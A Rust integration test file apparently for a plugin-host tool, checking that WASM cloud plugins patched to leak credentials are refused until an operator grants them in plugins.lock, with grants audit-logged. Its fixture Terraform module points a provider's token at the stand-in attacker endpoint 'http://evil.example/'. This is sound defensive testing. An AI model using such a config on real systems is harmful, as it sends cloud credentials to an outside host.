//! Grants of plugins on the real binary: what a patched plugin may not do until an operator grants it, what a new version wants, and
//! where grants are shown.
#![expect(clippy::unwrap_used, reason = "a test fails by panicking")]

use catalyst_tests::components::{edited, rebuilt};
use catalyst_tests::host::{Host, built, hostile_guests, wait_for};
use serde_json::{Value, json};
use std::path::Path;
use std::process::Command;
use std::time::Duration;

/// For a machine that does other things as well.
const SOON: Duration = Duration::from_secs(60);

/// What a component of the two reads of a request: a module, which it renders.
const MODULE: &str = "terraform {\n  required_providers {\n    cloud = { source = \"acme/cloud\", version = \"1.2.3\" }\n  }\n}\n\
                      variable \"cloud_token\" {\n  type = string\n}\n\
                      provider \"cloud\" {\n  token    = var.cloud_token\n  endpoint = \"http://evil.example/\"\n}\n";

/// All that the hostile guest is granted in the beginning.
const HONEST: [&str; 2] = ["argument acme/cloud token secret:token", "host api.cloud.example"];

fn put(folder: &Path, name: &str, bytes: &[u8]) {
    std::fs::write(folder.join(".new"), bytes).unwrap();
    std::fs::rename(folder.join(".new"), folder.join(name)).unwrap();
}

fn pin(folder: &Path, name: &str) -> String {
    let digest = ring::digest::digest(&ring::digest::SHA256, &std::fs::read(folder.join(name)).unwrap());
    let hex: String = digest.as_ref().iter().map(|byte| format!("{byte:02x}")).collect();
    format!("sha256:{hex}  {name}\n")
}

/// A lock that pins both files of the folder and grants the second one these rights.
fn lock(folder: &Path, granted: &[&str]) {
    let lines: String = granted.iter().map(|right| format!("grant hostile.wasm {right}\n")).collect();
    let rehearsal = "grant rehearsal.wasm secret ghcr-pull-token\n";
    let text = [&pin(folder, "rehearsal.wasm"), rehearsal, &pin(folder, "hostile.wasm"), &lines].concat::<str>();
    put(folder, "plugins.lock", text.as_bytes());
}

/// The rehearsal cloud, and a component of contract 1.0 whose module sends the token elsewhere.
fn folder() -> tempfile::TempDir {
    let plugins = tempfile::tempdir().unwrap();
    put(plugins.path(), "rehearsal.wasm", &std::fs::read(built("plugins/rehearsal.wasm")).unwrap());
    put(plugins.path(), "hostile.wasm", &std::fs::read(hostile_guests().join("by_request.wasm")).unwrap());
    plugins
}

fn request() -> Value {
    let hex: String = format!("main.tf\n{MODULE}").bytes().map(|byte| format!("{byte:02x}")).collect();
    json!({
        "orgName": "module", "orgEmail": "ops@acme.example", "sovereignFQDN": "leak.hostile.example",
        "sovereignDomainMode": "byo-manual",
        "regions": [{"provider": "hostile", "cloudRegion": "r1", "controlPlaneSize": "s", "workerSize": "s", "workerCount": 0}],
        "sshPublicKey": "ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAICvNPhTcqP2xjKPU6Vi7HE3wAlmK5uXYD8nZgkprXcRQ ops",
        "hostileToken": "t".repeat(64), "module": hex,
    })
}

fn preview(host: &Host) -> (u16, String) {
    let answer = host.api.post("/api/v1/previews", &request().to_string());
    (answer.status, answer.body)
}

fn details(host: &Host, id: &str) -> Value {
    let answer = host.api.get(&format!("/api/v1/providers/{id}"));
    assert_eq!(answer.status, 200, "{}", answer.body);
    answer.json()
}

fn failure(host: &Host, file: &str) -> Option<(String, bool)> {
    let all = host.api.get("/api/v1/providers").json();
    let of = all["failures"].as_array().unwrap().iter().find(|failure| failure["file"] == file)?.clone();
    Some((of["error"].as_str().unwrap().to_owned(), of["previousServes"].as_bool().unwrap()))
}

/// Lines of the audit log on grants of a file: what came and what went.
fn audited(audit: &Path, file: &str) -> Vec<(Value, Value)> {
    let text = std::fs::read_to_string(audit).unwrap_or_default();
    let lines = text.lines().filter_map(|line| serde_json::from_str::<Value>(line).ok());
    let of_file = lines.filter(|line| line["action"] == "grants" && line["file"] == file);
    of_file.map(|line| (line["granted"].clone(), line["revoked"].clone())).collect()
}

#[test]
fn a_plugin_that_was_patched_to_leak_is_refused_until_it_is_granted_and_the_grant_is_in_the_audit_log() {
    let (plugins, elsewhere) = (folder(), tempfile::tempdir().unwrap());
    let audit = elsewhere.path().join("audit.jsonl");
    lock(plugins.path(), &HONEST);
    let mut host = Host::start(&[
        ("CATALYST_PLUGINS_DIR", plugins.path().to_str().unwrap()),
        ("CATALYST_AUDIT_LOG", audit.to_str().unwrap()),
    ]);
    let (status, body) = preview(&host);
    let words = "main.tf:11: provider-argument: the argument \\\"endpoint\\\" of \\\"acme/cloud\\\" is not granted to this plugin in plugins.lock";
    assert!(status >= 400 && body.contains(words), "{status} {body}");
    let grants = &details(&host, "hostile")["grants"];
    assert_eq!((&grants["basis"], &grants["anyArgument"]), (&json!("granted"), &json!(false)), "{grants}");
    assert_eq!((&grants["granted"], &grants["hosts"]), (&json!(HONEST), &json!(["api.cloud.example"])), "{grants}");
    wait_for("what is granted at the start", SOON, || {
        (audited(&audit, "hostile.wasm") == [(json!(HONEST), json!([]))]).then_some(())
    });

    // The argument alone is not enough: it may lead to granted hosts only.
    let argument = "argument acme/cloud endpoint address";
    lock(plugins.path(), &[HONEST[0], argument, HONEST[1]]);
    wait_for("the argument", SOON, || preview(&host).1.contains("must be an address at a host").then_some(()));
    let evil = "host evil.example";
    lock(plugins.path(), &[HONEST[0], argument, HONEST[1], evil]);
    wait_for("the host", SOON, || (preview(&host).0 == 200).then_some(()));
    wait_for("the grants in the audit log", SOON, || {
        let lines = audited(&audit, "hostile.wasm");
        (lines.get(1..) == Some(&[(json!([argument]), json!([])), (json!([evil]), json!([]))])).then_some(())
    });

    // Taken back, it holds for what was rendered before as well.
    lock(plugins.path(), &HONEST);
    wait_for("the end of the grant", SOON, || preview(&host).1.contains("is not granted to this plugin").then_some(()));
    wait_for("its line", SOON, || {
        (audited(&audit, "hostile.wasm").last() == Some(&(json!([]), json!([argument, evil])))).then_some(())
    });
    assert!(host.trace().contains("what a plugin is granted changed"));
    host.down();
}

#[test]
fn what_holds_without_grants_is_in_the_audit_log_and_a_list_without_its_last_grant_gives_nothing() {
    let (plugins, elsewhere) = (folder(), tempfile::tempdir().unwrap());
    let audit = elsewhere.path().join("audit.jsonl");
    let start = || {
        let _ = std::fs::remove_file(&audit);
        Host::start(&[
            ("CATALYST_PLUGINS_DIR", plugins.path().to_str().unwrap()),
            ("CATALYST_AUDIT_LOG", audit.to_str().unwrap()),
        ])
    };
    let bases = |expect: &str| {
        wait_for("a line for each plugin", SOON, || {
            let text = std::fs::read_to_string(&audit).unwrap_or_default();
            let lines = text.lines().filter_map(|line| serde_json::from_str::<Value>(line).ok());
            let told: Vec<Value> = lines.filter(|line| line["action"] == "grants").collect();
            let of = |file: &str| told.iter().find(|line| line["file"] == file).map(|line| line["basis"].clone());
            let both = [of("rehearsal.wasm"), of("hostile.wasm")];
            both.iter().all(|basis| *basis == Some(json!(expect))).then_some(told)
        })
    };
    let mut host = start();
    let declared = bases("declared");
    let rehearsal = declared.iter().find(|line| line["file"] == "rehearsal.wasm").unwrap();
    assert_eq!(rehearsal["granted"], json!(["secret ghcr-pull-token"]), "what it may do is named: {rehearsal}");
    host.down();

    // A list from before grants.
    let pins = [pin(plugins.path(), "rehearsal.wasm"), pin(plugins.path(), "hostile.wasm")].concat();
    put(plugins.path(), "plugins.lock", pins.as_bytes());
    let mut host = start();
    bases("before-grants");
    host.down();

    // The last grant was taken out while no host ran: the line for others keeps the list one with grants.
    let held_to = |lock: &str| {
        put(plugins.path(), "plugins.lock", lock.as_bytes());
        let (_, shown) = plugin(&["inspect", plugins.path().join("rehearsal.wasm").to_str().unwrap(), "--json"]);
        serde_json::from_str::<Value>(&shown).unwrap()["grants"].clone()
    };
    let closed = held_to(&format!("{pins}grant * nothing\n"));
    let lacks = json!(["grant rehearsal.wasm secret ghcr-pull-token"]);
    assert_eq!((&closed["basis"], &closed["granted"], &closed["lacks"]), (&json!("granted"), &json!([]), &lacks));
    assert_eq!(held_to(&pins)["basis"], "before-grants", "without it everything that is declared holds");
}

#[test]
fn a_version_that_wants_more_waits_for_its_grant_while_the_one_before_serves() {
    let plugins = folder();
    lock(plugins.path(), &HONEST);
    let mut host = Host::start(&[("CATALYST_PLUGINS_DIR", plugins.path().to_str().unwrap())]);
    let before = details(&host, "hostile")["digest"].clone();
    // The same with another API host, which is as long.
    let new =
        edited(&std::fs::read(plugins.path().join("hostile.wasm")).unwrap(), "api.cloud.example", "api.cloud.exmaple");
    put(plugins.path(), "hostile.wasm", &new);
    // Its bytes are pinned; what they want was not seen.
    lock(plugins.path(), &HONEST);
    let (error, previous) = wait_for("a word on what is wanted", SOON, || {
        failure(&host, "hostile.wasm").filter(|(error, _)| error.contains("wants more"))
    });
    assert_eq!(error, "wants more than plugins.lock grants, which lacks `grant hostile.wasm host api.cloud.exmaple`");
    assert!(previous && details(&host, "hostile")["digest"] == before, "the version before serves on");
    lock(plugins.path(), &[HONEST[0], HONEST[1], "host api.cloud.exmaple"]);
    wait_for("the new version", SOON, || (details(&host, "hostile")["digest"] != before).then_some(()));
    assert_eq!(failure(&host, "hostile.wasm"), None);
    host.down();
}

#[test]
fn a_cloud_of_1_1_that_was_patched_sets_nothing_that_it_does_not_declare_even_without_a_lock() {
    let plugins = tempfile::tempdir().unwrap();
    let honest = std::fs::read(built("plugins/hetzner.wasm")).unwrap();
    put(plugins.path(), "hetzner.wasm", &honest);
    let mut host = Host::start(&[("CATALYST_PLUGINS_DIR", plugins.path().to_str().unwrap())]);
    let grants = details(&host, "hetzner")["grants"].clone();
    assert_eq!((&grants["basis"], &grants["anyArgument"]), (&json!("declared"), &json!(false)), "{grants}");
    assert_eq!(host.api.get("/api/v1/providers").json()["providers"][0]["grants"], grants);
    assert!(host.trace().contains("a plugin has the rights that it declares, for there is no plugins.lock"));
    let mut hetzner = request();
    hetzner["regions"][0] = json!({"provider": "hetzner", "cloudRegion": "fsn1", "controlPlaneSize": "cx42",
                                   "workerSize": "cx32", "workerCount": 1});
    hetzner["hetznerToken"] = json!("h".repeat(64));
    hetzner["hetznerProjectID"] = json!("1234567");
    let preview = |host: &Host| host.api.post("/api/v1/previews", &hetzner.to_string());
    let honest_answer = preview(&host);
    assert_eq!(honest_answer.status, 200, "{}", honest_answer.body);
    let digest = details(&host, "hetzner")["digest"].clone();
    put(plugins.path(), "hetzner.wasm", &edited(&honest, "  token = var.hcloud_token", "  endpoint=\"http://e.test\""));
    wait_for("the patched one", SOON, || (details(&host, "hetzner")["digest"] != digest).then_some(()));
    let refused = preview(&host);
    let words = "the argument \\\"endpoint\\\" of \\\"hetznercloud/hcloud\\\" is not declared by the plugin";
    assert!(refused.status >= 400 && refused.body.contains(words), "{}", refused.body);
    host.down();
}

fn plugin(arguments: &[&str]) -> (bool, String) {
    let mut command = Command::new(built("release/catalyst"));
    let output = command.arg("plugin").args(arguments).env_clear().output().unwrap();
    let text = [output.stdout, output.stderr].concat();
    (output.status.success(), String::from_utf8(text).unwrap())
}

#[test]
fn the_command_writes_what_a_host_takes_and_inspect_shows_it() {
    let plugins = folder();
    let file = |name: &str| plugins.path().join(name).display().to_string();
    put(plugins.path(), "hetzner.wasm", &std::fs::read(built("plugins/hetzner.wasm")).unwrap());
    put(plugins.path(), "openstack.wasm", &std::fs::read(built("plugins/openstack.wasm")).unwrap());
    std::fs::remove_file(file("hostile.wasm")).unwrap();
    let (_, shown) = plugin(&["inspect", &file("hetzner.wasm")]);
    for words in [
        "argument hetznercloud/hcloud token secret:hetzner-token",
        "what it declares: there is no plugins.lock beside it",
        "A plugin is trusted with what is built",
        "A node is trusted with its own cluster",
    ] {
        assert!(shown.contains(words), "{words}: {shown}");
    }
    // From the first grant on all need one, so one alone is not written.
    let pins = [pin(plugins.path(), "rehearsal.wasm"), pin(plugins.path(), "openstack.wasm")].concat();
    put(plugins.path(), "plugins.lock", pins.as_bytes());
    let (good, said) = plugin(&["grant", "--write", &file("hetzner.wasm")]);
    assert!(!good && said.contains("name rehearsal.wasm, openstack.wasm as well"), "{said}");
    let all = ["hetzner.wasm", "openstack.wasm", "rehearsal.wasm"].map(file);
    let (good, said) = plugin(&["grant", "--write", &all[0], &all[1], &all[2]]);
    assert!(good, "{said}");
    let lock = std::fs::read_to_string(file("plugins.lock")).unwrap();
    assert!(lock.contains("grant * nothing\n"), "{lock}");
    let address =
        "grant openstack.wasm argument terraform-provider-openstack/openstack auth_url address:openstackAuthUrl\n";
    assert!(lock.contains(address) && lock.contains("grant rehearsal.wasm secret ghcr-pull-token\n"), "{lock}");
    let (_, shown) = plugin(&["inspect", &all[0], "--json"]);
    let shown: Value = serde_json::from_str(&shown).unwrap();
    assert_eq!((&shown["grants"]["granted"], &shown["grants"]["lacks"]), (&shown["wants"], &json!([])), "{shown}");
    let mut host = Host::start(&[("CATALYST_PLUGINS_DIR", plugins.path().to_str().unwrap())]);
    let serving = host.api.get("/api/v1/providers").json();
    assert_eq!((serving["providers"].as_array().unwrap().len(), &serving["failures"]), (3, &json!([])), "{serving}");
    host.down();
    put(plugins.path(), "hetzner.wasm", &rebuilt(&std::fs::read(&all[0]).unwrap()));
    assert!(plugin(&["grant", "--write", &all[0]]).0, "an update is pinned anew");
    assert_eq!(std::fs::read_to_string(file("plugins.lock")).unwrap().matches("  hetzner.wasm").count(), 1);
    // Of 1.0, which cannot say it, the operator says it.
    put(plugins.path(), "hostile.wasm", &std::fs::read(hostile_guests().join("by_request.wasm")).unwrap());
    let (good, said) = plugin(&["grant", &file("hostile.wasm")]);
    assert!(
        good && said.contains("contract 1.0.0 cannot say which arguments the module sets for acme/cloud"),
        "{said}"
    );
    let (good, said) = plugin(&["grant", &file("hostile.wasm"), "--argument", "acme/cloud token secret:token"]);
    assert!(good && said.contains("grant hostile.wasm argument acme/cloud token secret:token"), "{said}");
    let (good, said) = plugin(&["grant", &file("hostile.wasm"), "--argument", "acme/cloud token free"]);
    assert!(!good && said.contains("--argument acme/cloud token free: the source of an argument is none of"), "{said}");
    // One that could declare a host reaches no other by its name alone.
    let hosts = ["--host", "other.example", "--host", "cloud.test=127.0.0.1:8443"];
    let (good, said) = plugin(&[&["grant", &all[0]], hosts.as_slice()].concat());
    assert!(good && said.contains("the grant of other.example has no effect"), "{said}");
    assert!(!said.contains("the grant of cloud.test") && said.contains("host other.example\n"), "{said}");
    let (good, said) = plugin(&[&["grant", &file("hostile.wasm")], hosts.as_slice()].concat());
    assert!(good && !said.contains("has no effect"), "{said}");
}
